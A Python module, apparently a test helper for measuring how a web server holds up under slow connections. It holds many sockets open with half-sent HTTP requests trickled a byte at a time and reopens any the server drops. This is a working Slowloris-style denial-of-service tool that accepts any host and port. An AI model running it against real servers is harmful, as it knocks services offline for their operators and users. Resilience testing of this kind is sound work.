"""Slow connections and a reader beside them, each in a process of its own.

    python slow_attack.py first HOST PORT COUNT    half a request on each, until standard input ends
    python slow_attack.py next HOST PORT COUNT     the same after a whole one that was answered
    python slow_attack.py ask HOST PORT COUNT      whole ones alone, COUNT in ten seconds, without an end
    python slow_attack.py read HOST PORT COUNT     prints JSON: status and seconds of each
    python slow_attack.py watch HOST PORT COUNT    the same, until standard input ends

A reader that shares its process with the attackers measures them and not the server.
"""

from __future__ import annotations

import json
import os
import select
import selectors
import socket
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress

EVERY_SECONDS = 3.0
"""How often a slow connection sends a byte."""
PAUSE_SECONDS = 0.02
"""How long a reader waits between two answers."""

HALF = b"GET / HTTP/1.1\r\nX-"
WHOLE = b"GET /robots.txt HTTP/1.1\r\nHost: here\r\n\r\n"

Address = tuple[str, int]


@contextmanager
def attack(address: Address, count: int, processes: int = 2, role: str = "first") -> Iterator[None]:
    """Hold ``count`` connections open in processes of the lowest priority while the body runs.

    ``role``: whether each is slow with its ``first`` request or with the ``next``, or whether so many only
    ``ask`` in ten seconds. The body begins when each has been opened once.
    """
    share = count // processes
    running = [_start(role, address, share) for _ in range(processes)]
    try:
        for process in running:
            assert process.stdout is not None
            process.stdout.readline()
        yield
    finally:
        for process in running:
            assert process.stdin is not None
            process.stdin.close()
        for process in running:
            process.wait(30)


def read_apart(address: Address, count: int) -> list[tuple[int, float]]:
    """Ask for the page one time after another in another process; the status and seconds of each."""
    process = _start("read", address, count)
    said, _ = process.communicate(timeout=600)
    return [(status, seconds) for status, seconds in json.loads(said)]


@contextmanager
def reading(address: Address) -> Iterator[list[tuple[int, float]]]:
    """Ask for the page in another process while the body runs; the list is filled when it ends."""
    found: list[tuple[int, float]] = []
    process = _start("watch", address, 1_000_000)
    try:
        yield found
    finally:
        said, _ = process.communicate(timeout=120)
        found += [(status, seconds) for status, seconds in json.loads(said)]


def _start(role: str, address: Address, count: int) -> subprocess.Popen[bytes]:
    command = [sys.executable, __file__, role, address[0], str(address[1]), str(count)]
    return subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE)


class Holder:
    """So many connections, each of which sends half a request a byte at a time."""

    def __init__(
        self, address: Address, count: int, begin: bytes, seconds: float, at_once: bool = False
    ) -> None:
        """``begin``: what each sends at first; ``seconds``: in how many they are opened.

        ``at_once``: send that on opening, and not at a connection's turn, which comes every EVERY_SECONDS.
        """
        self.at_once = at_once
        self.address, self.begin, self.seconds = address, begin, seconds
        self.selector = selectors.DefaultSelector()
        self.slots: list[socket.socket | None] = [None] * count
        self.begun = bytearray(count)  # 1 once the first bytes have been sent

    def run(self) -> None:
        """Hold them until standard input ends; ended ones are opened again at once."""
        self.selector.register(sys.stdin, selectors.EVENT_READ, None)
        begun = time.monotonic()
        opened = sent = 0
        while True:
            for key, _ in self.selector.select(0.01):
                if key.data is None:
                    return
                self._look(key.data)
            elapsed = time.monotonic() - begun
            while opened < len(self.slots) and opened <= elapsed / self.seconds * len(self.slots):
                self._open(opened)
                opened += 1
                if opened == len(self.slots):
                    print("open", flush=True)
            while sent < elapsed / EVERY_SECONDS * len(self.slots):
                self._send(sent % len(self.slots))
                sent += 1

    def _open(self, slot: int) -> None:
        one = socket.socket()
        one.setblocking(False)
        one.connect_ex(self.address)
        self.slots[slot], self.begun[slot] = one, 0
        self.selector.register(one, selectors.EVENT_READ, slot)
        if self.at_once:
            self._send(slot)

    def _send(self, slot: int) -> None:
        one = self.slots[slot]
        if one is not None:
            with suppress(OSError):
                one.send(b"a" if self.begun[slot] else self.begin)
                self.begun[slot] = 1

    def _look(self, slot: int) -> None:
        """Take what the server says; a connection that it has ended is opened again."""
        one = self.slots[slot]
        assert one is not None
        try:
            if one.recv(1000):
                return
        except BlockingIOError:
            return
        except OSError:
            pass
        self.selector.unregister(one)
        one.close()
        self._open(slot)


def ask(address: Address, count: int) -> None:
    """Ask for a small file over a new connection each time, ``count`` times in ten seconds, until stopped."""
    begun, asked, open_ones = time.monotonic(), 0, selectors.DefaultSelector()
    open_ones.register(sys.stdin, selectors.EVENT_READ, None)
    while True:
        for key, _ in open_ones.select(0.01):
            one = key.fileobj
            if not isinstance(one, socket.socket):
                return
            with suppress(OSError):
                one.recv(4096)
            open_ones.unregister(one)
            one.close()
        while asked < (time.monotonic() - begun) * count / 10:
            one = socket.create_connection(address, timeout=60)
            one.sendall(WHOLE)
            open_ones.register(one, selectors.EVENT_READ, one)
            asked += 1
            if asked == count // 10:
                print("open", flush=True)


def read(
    address: Address, count: int, is_over: Callable[[], bool] = lambda: False
) -> list[tuple[int, float]]:
    """Ask for the page over a new connection each time; status 0 when no answer came."""
    found: list[tuple[int, float]] = []
    while len(found) < count and not is_over():
        time.sleep(PAUSE_SECONDS)
        start = time.perf_counter()
        answer = b""
        with suppress(OSError), socket.create_connection(address, timeout=60) as one:
            one.sendall(b"GET / HTTP/1.1\r\nHost: here\r\nConnection: close\r\n\r\n")
            while piece := one.recv(1 << 18):
                answer += piece
        seconds = time.perf_counter() - start
        found.append((int(answer[9:12]) if answer.startswith(b"HTTP/1.1 ") else 0, seconds))
    return found


def _is_ended() -> bool:
    return bool(select.select([sys.stdin], [], [], 0)[0])


def main() -> None:
    """Play one role until it ends."""
    role, host, port, count = sys.argv[1:]
    at = (host, int(port))
    if role == "read":
        print(json.dumps(read(at, int(count))))
        return
    if role == "watch":
        print(json.dumps(read(at, int(count), _is_ended)))
        return
    os.nice(19)
    if role == "ask":
        ask(at, int(count))
    elif role == "first":
        Holder(at, int(count), HALF, 3).run()
    else:  # a whole request on each: not more in a second than when they come again
        Holder(at, int(count), WHOLE + HALF, 10, at_once=True).run()


if __name__ == "__main__":
    main()
